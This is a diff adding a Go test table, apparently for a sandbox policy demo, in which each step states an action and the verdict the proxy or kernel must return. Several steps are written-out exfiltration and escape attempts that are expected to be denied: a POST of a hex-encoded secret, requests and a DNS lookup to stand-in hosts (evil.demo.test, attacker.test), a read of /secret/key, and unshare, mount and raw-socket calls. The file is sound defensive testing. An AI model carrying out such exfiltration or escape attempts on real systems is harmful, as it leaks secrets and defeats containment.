@@ -1,0 +1,102 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package main
+
+// step is one thing that is tried in the sandbox, and what must come of it.
+type step struct {
+	title string
+	// program acts in the sandbox, with args; probe if empty.
+	program string
+	args    []string
+	// answers is what the program's line must hold, all of it.
+	answers []string
+	// line is text of the line of the policy that decides where the proxy's record
+	// names none: what the kernel refuses, and what no entry allows. builtin is who
+	// decides where no line does.
+	line, builtin string
+	// verdict is what the proxy must have recorded, about host; empty where it is
+	// not asked.
+	verdict, host string
+	// received is the one request that the server must have received; empty is
+	// none.
+	received string
+	// reload, if set, is done in place of a program: the text of the policy that
+	// changes, and what to.
+	reload [2]string
+}
+
+const seccomp = "the built-in seccomp filter, whatever the policy says"
+
+// secret stands for what a hostile program would carry out: "secret", as a name
+// can spell it.
+const secret = "736563726574"
+
+var steps = []step{
+	{
+		title: "a GET that the policy allows",
+		args:  []string{"http", "GET", "https://api.demo.test/v1/issues"}, answers: []string{" 200 ", "GET /v1/issues"},
+		verdict: "allow", host: "api.demo.test", received: "GET api.demo.test/v1/issues",
+	},
+	{
+		title: "a POST to the same place",
+		args:  []string{"http", "POST", "https://api.demo.test/v1/issues", secret}, answers: []string{" 403 ", `"error":"policy_denied"`, `"method":"POST"`},
+		verdict: "deny", host: "api.demo.test",
+	},
+	{
+		title: "the POST by a client that knows no proxy",
+		args:  []string{"direct", "POST", "https://api.demo.test/v1/issues", secret}, answers: []string{" 403 ", `"error":"policy_denied"`},
+		verdict: "deny", host: "api.demo.test",
+	},
+	{
+		title: "the GET by another program", program: "/bin/stranger",
+		args: []string{"direct", "GET", "https://api.demo.test/v1/issues"}, answers: []string{" 403 ", `"error":"policy_denied"`},
+		line: "binaries: [/bin/probe]", verdict: "deny", host: "api.demo.test",
+	},
+	{
+		title: "a host of which only the connection is judged",
+		args:  []string{"http", "GET", "https://docs.demo.test/guide"}, answers: []string{" 200 ", "GET /guide"},
+		verdict: "allow", host: "docs.demo.test", received: "GET docs.demo.test/guide",
+	},
+	{
+		title: "another host",
+		args:  []string{"direct", "GET", "https://evil.demo.test/" + secret}, answers: []string{" 403 ", `"error":"policy_denied"`},
+		line: "network_policies:", verdict: "deny", host: "evil.demo.test",
+	},
+	{
+		title: "another host, by CONNECT",
+		args:  []string{"http", "GET", "https://evil.demo.test/" + secret}, answers: []string{"error: ", "Forbidden"},
+		line: "network_policies:", verdict: "deny", host: "evil.demo.test",
+	},
+	{
+		title: "a secret carried out in a name (DNS)",
+		args:  []string{"lookup", secret + ".attacker.test"}, answers: []string{"error: ", "no such host"},
+		line: "network_policies:", verdict: "deny", host: secret + ".attacker.test",
+	},
+	{
+		title: "a file that the policy names",
+		args:  []string{"read", "/etc/motd"}, answers: []string{"ok: "},
+		line: "read_only:",
+	},
+	{
+		title: "a file outside the policy",
+		args:  []string{"read", "/secret/key"}, answers: []string{"error: EACCES"},
+		line: "filesystem_policy:",
+	},
+	{
+		title: "writing where the policy says read",
+		args:  []string{"write", "/etc/motd"}, answers: []string{"error: EACCES"},
+		line: "read_only:",
+	},
+	{title: "unshare: a user namespace", args: []string{"unshare"}, answers: []string{"error: EPERM"}, builtin: seccomp},
+	{title: "mount", args: []string{"mount"}, answers: []string{"error: EPERM"}, builtin: seccomp},
+	{title: "a raw socket", args: []string{"raw"}, answers: []string{"error: EPERM"}, builtin: seccomp},
+	{
+		title: "a new policy, without a restart", reload: [2]string{"access: read-only", "access: read-write"},
+		answers: []string{"revision 2"}, line: "access: read-write",
+	},
+	{
+		title: "the POST again, in the same sandbox",
+		args:  []string{"http", "POST", "https://api.demo.test/v1/issues", "a new issue"}, answers: []string{" 200 ", "POST /v1/issues"},
+		verdict: "allow", host: "api.demo.test", received: "POST api.demo.test/v1/issues",
+	},
+}
